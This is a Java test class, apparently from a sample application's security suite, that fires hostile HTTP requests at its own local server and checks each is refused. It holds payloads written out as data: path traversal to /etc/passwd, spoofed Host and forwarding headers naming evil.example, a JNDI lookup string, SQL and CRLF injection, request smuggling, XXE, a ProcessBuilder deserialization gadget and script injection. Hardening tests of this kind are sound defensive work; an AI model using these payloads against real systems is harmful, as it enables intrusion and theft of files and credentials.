/*
 * Copyright 2026 the Ralph for the JVM authors
 * SPDX-License-Identifier: Apache-2.0
 */
package dev.ralph.samples.spring.attack;

import dev.ralph.Orchestrator;
import dev.ralph.audit.AuditQuery;
import dev.ralph.samples.spring.attack.Attack.Outcome;
import java.io.IOException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;

/** Paths out of their folder, hosts and addresses that are not true, headers and bodies of an odd form, output with script in it. */
final class RequestAttacks {

    /** How long an answer to a request that was none is waited for. */
    private static final Duration SECOND_ANSWER = Duration.ofSeconds(3);

    /** A field of the answer to who asks. */
    private static final String PRINCIPAL = "\"principal\"";

    private static final String SET_UP = "/api/v1/setup";

    /** The same path, as a filter that compares text would not know it. */
    private static final String SET_UP_ENCODED = "/api/v1/%73etup";

    private static final int MOST_OF_SET_UP = 4_096;

    private RequestAttacks() {}

    static Stream<Attack> all() {
        return Stream.of(paths(), hosts(), addresses(), headers(), bodies(), output())
                .flatMap(s -> s);
    }

    private static Stream<Attack> paths() {
        String kind = "paths";
        List<Attack> attacks = new ArrayList<>();
        for (String path : List.of(
                "/../../../../etc/passwd",
                "/api/v1/runs/../../../../etc/passwd",
                "/api/v1/runs/%2e%2e/%2e%2e/etc/passwd",
                "/docs/../application.yaml",
                "/docs/..%2f..%2fapplication.yaml",
                "/docs/%252e%252e%252fapplication.yaml",
                "/docs/..%5c..%5capplication.yaml",
                "/docs/..;/..;/application.yaml",
                "/swagger-ui/%2e%2e/%2e%2e/application.yaml",
                "/swagger-ui/....//....//application.yaml",
                "/swagger-ui/%c0%ae%c0%ae/application.yaml",
                "/webjars/../application.yaml",
                "//etc/passwd",
                "/openapi/%00",
                "/openapi/..%00/",
                "/META-INF/MANIFEST.MF",
                "/WEB-INF/web.xml",
                "/application.yaml",
                "/db/host/V1__keys.sql",
                "/actuator/env",
                "/h2-console/")) {
            attacks.add(new Attack(kind, path, false, v -> {
                RawHttp.Reply reply = v.request("GET", path, v.admin);
                boolean leaked = reply.body().contains("root:")
                        || reply.body().contains("datasource")
                        || reply.body().contains("create table")
                        || reply.body().contains("Manifest-Version");
                return new Outcome(!leaked && List.of(0, 400, 401, 403, 404).contains(reply.status()), reply.shown());
            }));
        }
        for (String workspace :
                List.of("../../../../etc", "/etc", "..%2f..%2fetc", "demo/../../..", "file:///etc", "demo\\u0000")) {
            attacks.add(new Attack(kind, "a run in the workspace " + workspace, true, v -> {
                RawHttp.Reply reply = v.post(
                        "/api/v1/runs",
                        v.operator,
                        "application/json",
                        "{\"prompt\":\"x\",\"workspace\":\"" + workspace + "\",\"agents\":[\"nasty\"]}");
                return new Outcome(reply.status() == 400, reply.shown());
            }));
        }
        for (String field : List.of(
                "\"command\":[\"sh\"]",
                "\"environment\":{\"LD_PRELOAD\":\"x\"}",
                "\"path\":\"/etc\"",
                "\"gates\":\"sh -c id\"")) {
            attacks.add(new Attack(kind, "a run with " + field, true, v -> {
                RawHttp.Reply reply = v.post(
                        "/api/v1/runs",
                        v.operator,
                        "application/json",
                        "{\"prompt\":\"x\",\"workspace\":\"nasty\",\"agents\":[\"nasty\"]," + field + "}");
                return new Outcome(reply.status() == 400, reply.shown());
            }));
        }
        return attacks.stream();
    }

    private static Stream<Attack> hosts() {
        String kind = "hosts";
        List<Attack> attacks = new ArrayList<>();
        for (String host : List.of(
                "Host: evil.example",
                "Host: 127.0.0.1.evil.example",
                "Host: 127.0.0.1@evil.example",
                "Host: localhost, evil.example",
                "Host: evil.example#127.0.0.1",
                "Host:",
                "X: no host",
                "Host: 127.0.0.1\r\nHost: evil.example",
                "Host: [::ffff:127.0.0.1]",
                "Host: 127.0.0.1:99999999",
                "Host: ../127.0.0.1")) {
            attacks.add(new Attack(kind, host.replace("\r\n", " and "), false, v -> {
                RawHttp.Reply reply = v.raw(
                        "GET /api/v1/me HTTP/1.1", host, "Connection: close", "Authorization: Bearer " + v.viewer);
                return new Outcome(reply.status() == 400 && !reply.head().contains("evil"), reply.shown());
            }));
        }
        attacks.add(new Attack(kind, "another host in the request line", false, v -> {
            RawHttp.Reply reply = v.raw(
                    "GET http://evil.example/api/v1/me HTTP/1.1",
                    "Host: 127.0.0.1",
                    "Connection: close",
                    "Authorization: Bearer " + v.viewer);
            return new Outcome(reply.status() == 400, reply.shown());
        }));
        attacks.add(new Attack(kind, "X-Forwarded-Host, -Prefix, -Port", true, v -> {
            RawHttp.Reply reply = v.request(
                    "GET",
                    "/docs",
                    v.viewer,
                    "X-Forwarded-Host: evil.example",
                    "X-Forwarded-Prefix: //evil.example",
                    "X-Forwarded-Port: 666",
                    "X-Host: evil.example");
            return new Outcome(
                    !(reply.head() + reply.body()).contains("evil.example")
                            && List.of(200, 302).contains(reply.status()),
                    reply.shown() + ", not in the answer " + reply.header("Location"));
        }));
        attacks.add(new Attack(kind, "a page of another site", false, v -> {
            RawHttp.Reply reply = v.request("GET", "/api/v1/me", v.viewer, "Origin: https://evil.example");
            return new Outcome(
                    reply.status() == 403
                            && reply.header("Access-Control-Allow-Origin").isEmpty(),
                    reply.shown());
        }));
        return attacks.stream();
    }

    private static Stream<Attack> addresses() {
        String kind = "addresses";
        List<Attack> attacks = new ArrayList<>();
        for (String header : List.of(
                "X-Forwarded-For: 10.1.1.1",
                "X-Forwarded-For: 127.0.0.1",
                "Forwarded: for=10.1.1.1",
                "X-Real-IP: 10.1.1.1",
                "True-Client-IP: 10.1.1.1",
                "CF-Connecting-IP: 10.1.1.1",
                "X-Client-IP: 10.1.1.1",
                "X-Forwarded-For: " + "10.1.1.1, ".repeat(500) + "10.1.1.1",
                "X-Forwarded-For: evil.example",
                "X-Forwarded-For: '; drop table runs; --",
                "X-Forwarded-For: ${jndi:ldap://evil.example/a}")) {
            attacks.add(new Attack(kind, header.length() > 80 ? header.substring(0, 60) + "…" : header, false, v -> {
                String from = v.newAddress();
                RawHttp.Reply reply = RawHttp.exchange(v.port(), from, v.headOf("GET", "/api/v1/me", v.viewer, header));
                RawHttp.exchange(v.port(), from, v.headOf("GET", "/api/v1/me", "ralph_wrong", header));
                boolean trail = v
                        .host
                        .bean(Orchestrator.class)
                        .audit()
                        .orElseThrow()
                        .list(AuditQuery.NEWEST.withAction("login.refused").withLimit(1))
                        .items()
                        .stream()
                        .allMatch(record -> from.equals(record.entry().address()));
                return new Outcome(
                        reply.body().contains("\"address\":\"" + from + "\"") && trail,
                        reply.shown() + ", taken for " + (reply.body().contains(from) ? "what it is" : "another")
                                + (trail ? ", also in the trail" : ", but not in the trail"));
            }));
        }
        attacks.add(new Attack(kind, "metrics, from elsewhere, as loopback", false, v -> {
            RawHttp.Reply reply = v.request("GET", "/metrics", null, "X-Forwarded-For: 127.0.0.1");
            RawHttp.Reply plain = v.request("GET", "/metrics", null);
            return new Outcome(reply.status() == 401 && plain.status() == 401, reply.shown());
        }));
        return attacks.stream();
    }

    private static Stream<Attack> headers() {
        String kind = "headers";
        return Stream.of(
                refused(kind, "a header of 1 MB", v -> v.request("GET", "/live", null, "X: " + "a".repeat(1_000_000))),
                refused(
                        kind,
                        "10,000 headers",
                        v -> v.request("GET", "/live", null, "X: a\r\n".repeat(10_000) + "Y: b")),
                refused(kind, "a path of 1 MB", v -> v.request("GET", "/" + "a".repeat(1_000_000), null)),
                refused(
                        kind,
                        "10,000 parameters in the query",
                        v -> v.request("GET", "/live?" + "a=b&".repeat(10_000), null)),
                refused(
                        kind,
                        "a header without an end",
                        v -> v.raw("GET /live HTTP/1.1", "Host: 127.0.0.1", "X y z", "Connection: close")),
                refused(kind, "a NUL in a header", v -> v.request("GET", "/api/v1/me", v.viewer, "X: a\0b")),
                refused(kind, "HTTP/9.9", v -> v.raw("GET /live HTTP/9.9", "Host: 127.0.0.1", "Connection: close")),
                refused(
                        kind,
                        "a length and chunks at once",
                        v -> v.raw(
                                "POST /api/v1/setup HTTP/1.1",
                                "Host: 127.0.0.1",
                                "Content-Type: application/json",
                                "Content-Length: 5",
                                "Transfer-Encoding: chunked",
                                "Connection: close")),
                refused(
                        kind,
                        "two lengths",
                        v -> v.raw(
                                "POST /api/v1/setup HTTP/1.1",
                                "Host: 127.0.0.1",
                                "Content-Length: 5",
                                "Content-Length: 6",
                                "Connection: close")),
                refused(
                        kind,
                        "a length below 0",
                        v -> v.raw(
                                "POST /api/v1/setup HTTP/1.1",
                                "Host: 127.0.0.1",
                                "Content-Length: -1",
                                "Connection: close")),
                refused(
                        kind,
                        "a length beyond 64 bits",
                        v -> v.raw(
                                "POST /api/v1/setup HTTP/1.1",
                                "Host: 127.0.0.1",
                                "Content-Length: 99999999999999999999",
                                "Connection: close")),
                refused(
                        kind,
                        "Transfer-Encoding: xchunked",
                        v -> v.raw(
                                "POST /api/v1/setup HTTP/1.1",
                                "Host: 127.0.0.1",
                                "Transfer-Encoding: xchunked",
                                "Connection: close")),
                notInjected(kind, "CR LF in the path", "/api/v1/runs/a%0d%0aX-Injected:%20yes"),
                notInjected(kind, "CR LF in the query", "/api/v1/runs?after=a%0d%0aX-Injected:%20yes"),
                notInjected(kind, "CR LF in a key's id", "/api/v1/keys/%0d%0aX-Injected:%20yes"),
                new Attack(kind, "a bare CR in a header", false, v -> {
                    RawHttp.Reply reply =
                            v.request("GET", "/api/v1/me", v.viewer, "Idempotency-Key: a\rX-Injected: yes");
                    return new Outcome(reply.header("X-Injected").isEmpty() && reply.status() != 429, reply.shown());
                }),
                new Attack(kind, "CR LF in the origin", false, v -> {
                    RawHttp.Reply reply =
                            v.request("GET", "/api/v1/me", v.viewer, "Origin: https://a%0d%0aX-Injected: yes");
                    return new Outcome(reply.header("X-Injected").isEmpty() && reply.isRefusal(), reply.shown());
                }),
                new Attack(kind, "two requests in one, the second as somebody else", false, v -> {
                    String second = v.headOf("GET", "/api/v1/me", v.viewer);
                    String around = Victim.head(
                            "POST /api/v1/runs HTTP/1.1",
                            "Host: 127.0.0.1",
                            "Content-Type: application/json",
                            "Content-Length: " + second.length());
                    String answers = answers(v, around + second);
                    String ofTwo = answers(v, Victim.head("GET /live HTTP/1.1", "Host: 127.0.0.1") + second);
                    return new Outcome(
                            answers.startsWith("HTTP/1.1 401")
                                    && !answers.contains(PRINCIPAL)
                                    && ofTwo.contains(PRINCIPAL),
                            "answered " + (answers.split("HTTP/1\\.1 ", -1).length - 1) + " time: "
                                    + answers.lines().findFirst().orElse("").strip());
                }));
    }

    /** All answers on one connection, until one knows who asks, or no more come. */
    private static String answers(Victim v, String requests) throws IOException {
        try (RawHttp http = v.connect()) {
            http.send(requests);
            return http.readUntil(PRINCIPAL, SECOND_ANSWER);
        }
    }

    private static Stream<Attack> bodies() {
        String kind = "bodies";
        return Stream.of(
                api(
                        kind,
                        "JSON 100,000 deep",
                        v -> v.post(
                                "/api/v1/runs",
                                v.operator,
                                "application/json",
                                "[".repeat(100_000) + "]".repeat(100_000))),
                api(
                        kind,
                        "JSON objects 50,000 deep",
                        v -> v.post(
                                "/api/v1/runs",
                                v.operator,
                                "application/json",
                                "{\"a\":".repeat(50_000) + "1" + "}".repeat(50_000))),
                api(
                        kind,
                        "labels 1,000 deep",
                        v -> v.post(
                                "/api/v1/runs",
                                v.operator,
                                "application/json",
                                "{\"prompt\":\"x\",\"workspace\":\"nasty\",\"labels\":" + "{\"a\":".repeat(1000) + "1"
                                        + "}".repeat(1000) + "}")),
                api(
                        kind,
                        "a number of 900,000 digits",
                        v -> v.post(
                                "/api/v1/runs",
                                v.operator,
                                "application/json",
                                "{\"prompt\":\"x\",\"workspace\":\"nasty\",\"priority\":" + "9".repeat(900_000) + "}")),
                api(
                        kind,
                        "1e999999999 dollars",
                        v -> v.post(
                                "/api/v1/runs",
                                v.operator,
                                "application/json",
                                "{\"prompt\":\"x\",\"workspace\":\"nasty\",\"limits\":{\"maxCost\":1e999999999}}")),
                api(
                        kind,
                        "JSON that goes on",
                        v -> v.post(
                                "/api/v1/runs",
                                v.operator,
                                "application/json",
                                "{\"prompt\":\"x\",\"workspace\":\"nasty\"}{}")),
                api(
                        kind,
                        "a class to instantiate",
                        v -> v.post(
                                "/api/v1/runs",
                                v.operator,
                                "application/json",
                                "{\"@class\":\"java.lang.ProcessBuilder\",\"prompt\":\"x\",\"workspace\":\"nasty\"}")),
                api(
                        kind,
                        "a form of another site",
                        v -> v.post("/api/v1/runs", v.operator, "application/x-www-form-urlencoded", "prompt=x")),
                api(
                        kind,
                        "text/plain, which needs no preflight",
                        v -> v.post(
                                "/api/v1/runs",
                                v.operator,
                                "text/plain",
                                "{\"prompt\":\"x\",\"workspace\":\"nasty\"}")),
                api(
                        kind,
                        "XML with an external entity",
                        v -> v.post(
                                "/api/v1/runs",
                                v.operator,
                                "application/xml",
                                "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>")),
                refused(
                        kind,
                        "a set-up token 100,000 deep",
                        v -> v.post("/api/v1/setup", null, "application/json", "[".repeat(100_000))),
                refused(
                        kind,
                        "a set-up form",
                        v -> v.post("/api/v1/setup", null, "application/x-www-form-urlencoded", "token=a")),
                refused(
                        kind,
                        "a set-up in chunks",
                        v -> v.raw(
                                "POST /api/v1/setup HTTP/1.1",
                                "Host: 127.0.0.1",
                                "Content-Type: application/json",
                                "Transfer-Encoding: chunked",
                                "Connection: close")),
                new Attack(kind, "30 wrong set-up tokens, the path of each other one encoded", false, v -> {
                    String from = v.newAddress();
                    String body = "{\"token\":\"ralph_setup_" + "0".repeat(64) + "\"}";
                    int refused = 0;
                    int limited = 0;
                    for (int i = 0; i < 30; i++) {
                        String path = i % 2 == 0 ? SET_UP_ENCODED : SET_UP;
                        RawHttp.Reply reply = RawHttp.exchange(v.port(), from, setUp(v, path, body.length()) + body);
                        refused += reply.status() == 401 ? 1 : 0;
                        limited += reply.status() == 429 ? 1 : 0;
                    }
                    return new Outcome(
                            refused > 0 && refused <= 20 && refused + limited == 30,
                            refused + " times 401, " + limited + " times 429");
                }),
                new Attack(kind, "a set-up without a length, the path encoded", false, v -> {
                    String[] headers = {"Content-Type: application/json", "Transfer-Encoding: chunked"};
                    return asThePlainOne(
                            v.request("POST", SET_UP, null, headers), v.request("POST", SET_UP_ENCODED, null, headers));
                }),
                new Attack(
                        kind,
                        "a set-up of more than it may have, the path encoded",
                        false,
                        v -> asThePlainOne(
                                RawHttp.exchange(v.port(), v.newAddress(), setUp(v, SET_UP, MOST_OF_SET_UP + 1)),
                                RawHttp.exchange(
                                        v.port(), v.newAddress(), setUp(v, SET_UP_ENCODED, MOST_OF_SET_UP + 1)))));
    }

    private static String setUp(Victim v, String path, int length) {
        return v.headOf("POST", path, null, "Content-Type: application/json", "Content-Length: " + length);
    }

    private static Outcome asThePlainOne(RawHttp.Reply plain, RawHttp.Reply encoded) {
        boolean same = plain.body().equals(encoded.body().replace(SET_UP_ENCODED, SET_UP))
                && plain.status() == encoded.status();
        return new Outcome(
                same && plain.status() == 400 && plain.body().contains("at most " + MOST_OF_SET_UP + " bytes"),
                encoded.shown() + (same ? ", as the plain path" : ", and " + plain.shown() + " by the plain path"));
    }

    private static Stream<Attack> output() {
        String kind = "output";
        return Stream.of(
                new Attack(kind, "script in what an agent prints", true, v -> {
                    String run = v.otherRun();
                    v.awaitEnd(v.otherAdmin, run);
                    RawHttp.Reply reply =
                            v.request("GET", "/api/v1/runs/" + run + "/iterations/1/attempts/1/output", v.otherAdmin);
                    boolean inert = reply.header("Content-Type").startsWith("text/plain")
                            && reply.header("X-Content-Type-Options").equals("nosniff")
                            && reply.header("Content-Security-Policy").contains("default-src 'none'");
                    return new Outcome(
                            reply.status() == 200 && reply.body().contains("<script>") && inert,
                            reply.shown() + " as " + reply.header("Content-Type") + ", nothing may run");
                }),
                new Attack(kind, "an event made up in what an agent prints", true, v -> {
                    String run = v.otherRun();
                    v.awaitEnd(v.otherAdmin, run);
                    RawHttp.Reply reply = v.request(
                            "GET", "/api/v1/runs/" + run + "/events", v.otherAdmin, "Accept: text/event-stream");
                    boolean forged = reply.body()
                            .lines()
                            .anyMatch(line -> line.startsWith("event: forged")
                                    || line.equals("id: 999999")
                                    || line.startsWith("data: forged"));
                    return new Outcome(reply.status() == 200 && !forged, reply.shown() + " without it");
                }),
                new Attack(kind, "script in an unknown path", false, v -> {
                    RawHttp.Reply reply = v.request("GET", "/api/v1/%3Cscript%3Ealert(1)%3C/script%3E", v.viewer);
                    return new Outcome(
                            !reply.header("Content-Type")
                                            .toLowerCase(Locale.ROOT)
                                            .contains("html")
                                    && !reply.body().contains("<script>")
                                    && reply.isRefusal(),
                            reply.shown() + " as " + reply.header("Content-Type"));
                }),
                new Attack(kind, "script in a path no server takes", false, v -> {
                    RawHttp.Reply reply =
                            v.raw("GET /<script>alert(1)</script> HTTP/1.1", "Host: 127.0.0.1", "Connection: close");
                    return new Outcome(reply.status() == 400 && !reply.body().contains("<script>"), reply.shown());
                }));
    }

    private interface Request {
        RawHttp.Reply to(Victim victim) throws Exception;
    }

    private static Attack refused(String kind, String name, Request request) {
        return new Attack(kind, name, false, v -> {
            RawHttp.Reply reply = request.to(v);
            return new Outcome(reply.isRefusal() || List.of(0, 501, 505).contains(reply.status()), reply.shown());
        });
    }

    /** With a good credential of a role that may: refused for what is asked. */
    private static Attack api(String kind, String name, Request request) {
        return new Attack(kind, name, true, v -> {
            RawHttp.Reply reply = request.to(v);
            return new Outcome(reply.isRefusal() && reply.status() != 401 && reply.status() != 403, reply.shown());
        });
    }

    private static Attack notInjected(String kind, String name, String path) {
        return new Attack(kind, name, false, v -> {
            RawHttp.Reply reply = v.request("GET", path, v.admin);
            return new Outcome(
                    reply.header("X-Injected").isEmpty() && reply.isRefusal() && reply.status() != 401, reply.shown());
        });
    }
}
